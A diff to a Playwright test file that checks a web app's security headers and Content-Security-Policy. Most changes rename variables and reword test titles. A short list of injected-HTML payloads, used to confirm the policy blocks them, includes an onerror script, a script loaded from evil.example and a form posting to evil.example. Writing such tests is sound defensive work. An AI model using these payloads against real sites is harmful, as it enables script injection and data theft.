@@ -16,19 +16,19 @@ const always = {
   "permissions-policy": "camera=(), geolocation=(), microphone=()",
 };
 
-const answers = async (context: BrowserContext, paths: string[]) =>
+const responses = async (context: BrowserContext, paths: string[]) =>
   Promise.all(paths.map((path) => context.request.get(path, { maxRedirects: 0 })));
 
-for (const who of ["nobody", "alice"]) {
-  test(`every page says what it may load and where it may send to, for ${who} too`, async ({
+for (const who of ["a visitor", "alice"]) {
+  test(`every page restricts what it may load and where its forms may post, for ${who}`, async ({
     app,
     context,
     identity,
   }) => {
-    if (who !== "nobody") await signInByRequests(context, who);
+    if (who !== "a visitor") await signInByRequests(context, who);
     const pages = [...everyPage(), "/no-such-page"];
     expect(pages.length).toBeGreaterThan(15);
-    for (const response of await answers(context, pages)) {
+    for (const response of await responses(context, pages)) {
       const headers = response.headers();
       expect(headers, response.url()).toMatchObject(always);
       const policy = directives(headers["content-security-policy"]);
@@ -53,10 +53,10 @@ for (const who of ["nobody", "alice"]) {
   });
 }
 
-test("no handler's answer can be shown in a frame or taken for another type", async ({
+test("no handler's response can be shown in a frame or interpreted as another type", async ({
   context,
 }) => {
-  for (const response of await answers(context, [...everyHandler(), "/api/auth/csrf"])) {
+  for (const response of await responses(context, [...everyHandler(), "/api/auth/csrf"])) {
     const headers = response.headers();
     expect(headers, response.url()).toMatchObject(always);
     expect(
@@ -66,9 +66,7 @@ test("no handler's answer can be shown in a frame or taken for another type", as
   }
 });
 
-test("the browser's console stays clean on the way through the app, in and out", async ({
-  page,
-}) => {
+test("the browser's console stays clean from sign-in to sign-out", async ({ page }) => {
   const found = complaints(page);
   await signInByHand(page, "alice", "/profile");
   await page.goto("/");
@@ -80,9 +78,7 @@ test("the browser's console stays clean on the way through the app, in and out",
   expect(found).toEqual([]);
 });
 
-/**
- * What somebody would try who found a way to add HTML to a page, and the directive that stops it.
- */
+/** HTML that an attacker could try to inject into a page, and the directive that stops it. */
 const attempts: [string, string][] = [
   ["script-src-attr", '<img src="data:," onerror="document.title = `taken`">'],
   ["script-src-elem", '<script src="https://evil.example/x.js"></script>'],
@@ -94,7 +90,7 @@ const attempts: [string, string][] = [
   ["form-action", '<form action="https://evil.example/" method="post"><button id="evil"></form>'],
 ];
 
-test("a page does nothing of what HTML from elsewhere would have it do", async ({ page }) => {
+test("the policy stops injected HTML", async ({ page }) => {
   await page.goto("/");
   for (const [directive, html] of attempts) {
     const stopped = await page.evaluate(
